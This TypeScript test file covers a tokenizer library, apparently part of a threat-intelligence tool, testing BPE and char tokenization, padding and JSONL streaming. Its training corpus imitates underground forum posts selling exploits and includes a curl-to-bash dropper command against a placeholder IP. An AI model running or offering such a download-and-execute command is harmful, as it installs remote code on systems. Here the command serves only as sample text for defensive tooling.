// Tokenisers: BPE learned from mixed forum text round-trips any input, compresses what it saw,
// handles Cyrillic/CJK/code; char tokenizer; padding/truncation; persistence; JSONL streaming.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { z } from 'zod';
import { loadTokenizer, trainTokenizer, PAD_ID, CLS_ID, UNK_ID } from '../../src/ml/text/tokenizer.js';
import { pretokenize } from '../../src/ml/text/pretokenize.js';
import { readJsonl, chunks } from '../../src/ml/data.js';

const corpus = [
  'Selling fresh 0day exploit for Apache Struts, RCE, contact via jabber.',
  'Продаю эксплойт для уязвимости CVE-2021-44228 в log4j, цена 500$',
  '出售最新的漏洞利用工具，支持远程代码执行',
  'def exploit(target): return requests.post(target + "/login", data=payload)',
  'Looking for a crypter FUD, paying in BTC. PM me for the exploit kit.',
  'Новый эксплойт для Windows, обход UAC, проверено на 10 и 11',
  'curl -s http://203.0.113.5/payload.sh | bash  # dropper',
].flatMap((s) => [s, s, s]);

test('pretokenize splits scripts, digits, punctuation and whitespace; long words are chunked', () => {
  assert.deepEqual(pretokenize('Hi мир 中文 CVE-2021'), ['Hi', ' мир', ' ', '中', '文', ' CVE', '-', '202', '1']);
  const long = pretokenize('x'.repeat(100));
  assert.ok(long.every((w) => w.length <= 32));
  assert.equal(long.join(''), 'x'.repeat(100));
  // Linear time on adversarial input.
  const started = performance.now();
  pretokenize('a1!'.repeat(50_000) + ' '.repeat(50_000));
  assert.ok(performance.now() - started < 2000);
});

test('BPE learns merges from a multilingual corpus and round-trips any text', async () => {
  const tok = await trainTokenizer(corpus, { vocabSize: 600 });
  assert.equal(tok.kind, 'bpe');
  assert.ok(tok.vocabSize > 261 && tok.vocabSize <= 600);
  for (const s of [...corpus, 'never seen: ẞ 🙂 ﬁ Ω 한국어 \u0000 tabs\tand\nnewlines']) {
    assert.equal(tok.decode(tok.encode(s)), s.normalize('NFKC'));
  }
  // Learned text compresses well below one token per byte.
  const seen = corpus[1]!;
  assert.ok(tok.encode(seen).length < Buffer.byteLength(seen) / 3, `${tok.encode(seen).length} tokens`);
  const word = tok.encode(' эксплойт');
  assert.ok(word.length <= 2, `' эксплойт' is ${word.length} tokens`);
  // No id collides with padding.
  const ids = tok.encode('anything at all');
  assert.ok(ids.every((id) => id !== PAD_ID), `ids ${ids.join(',')}`);
});

test('BPE training is deterministic and persists to JSON', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'tm-tok-'));
  try {
    const a = await trainTokenizer(corpus, { vocabSize: 500 });
    const b = await trainTokenizer(corpus, { vocabSize: 500 });
    assert.deepEqual(a.toJSON(), b.toJSON());
    await a.save(join(dir, 'tokenizer.json'));
    const c = await loadTokenizer(join(dir, 'tokenizer.json'));
    assert.deepEqual(c.encode(corpus[3]!), a.encode(corpus[3]!));
    await writeFile(join(dir, 'bad.json'), '{"kind":"bpe"}');
    await assert.rejects(loadTokenizer(join(dir, 'bad.json')), /bad\.json: not a threatminer tokenizer/);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test('char tokenizer keeps frequent characters and maps the rest to <unk>', async () => {
  const tok = await trainTokenizer(corpus, { kind: 'char', vocabSize: 60, lowercase: true });
  assert.equal(tok.kind, 'char');
  assert.equal(tok.vocabSize, 60);
  const ids = tok.encode('exploit ☃');
  assert.equal(ids[ids.length - 1], UNK_ID);
  assert.equal(tok.decode(tok.encode('exploit')), 'exploit');
});

test('encodeBatch pads, truncates and optionally prepends <cls>', async () => {
  const tok = await trainTokenizer(corpus, { kind: 'char', vocabSize: 80 });
  const b = tok.encodeBatch(['abc', 'a much longer text than ten'], { maxLength: 10, addCls: true });
  assert.equal(b.ids.length, 20);
  assert.deepEqual(Array.from(b.lengths), [4, 10]);
  assert.equal(b.ids[0], CLS_ID);
  assert.deepEqual(Array.from(b.ids.subarray(4, 10)), [0, 0, 0, 0, 0, 0]);
  const tail = tok.encodeBatch(['0123456789abc'], { maxLength: 3, truncate: 'start' });
  assert.equal(tok.decode(tail.ids), tok.decode(tok.encode('abc')));
  assert.throws(() => tok.encodeBatch(['x'], { maxLength: 0 }), /maxLength/);
});

test('readJsonl streams validated records and names the bad line', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'tm-jsonl-'));
  try {
    const path = join(dir, 'd.jsonl');
    await writeFile(path, '{"text":"a","label":"x"}\n\n{"text":"b","label":"y"}\n{"text":3}\n');
    const schema = z.object({ text: z.string(), label: z.string() });
    const got: string[] = [];
    await assert.rejects(
      (async () => {
        for await (const r of readJsonl(path, schema)) got.push(r.text);
      })(),
      /d\.jsonl:4: text: /,
    );
    assert.deepEqual(got, ['a', 'b']);
    const batches: number[] = [];
    for await (const c of chunks([1, 2, 3, 4, 5], 2)) batches.push(c.length);
    assert.deepEqual(batches, [2, 2, 1]);
    // Tokenisers train straight from a stream.
    async function* texts() {
      for await (const r of readJsonl(join(dir, 'ok.jsonl'), schema)) yield r.text;
    }
    await writeFile(join(dir, 'ok.jsonl'), corpus.map((text) => JSON.stringify({ text, label: 'l' })).join('\n'));
    const tok = await trainTokenizer(texts(), { vocabSize: 300 });
    assert.ok(tok.vocabSize > 261);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});
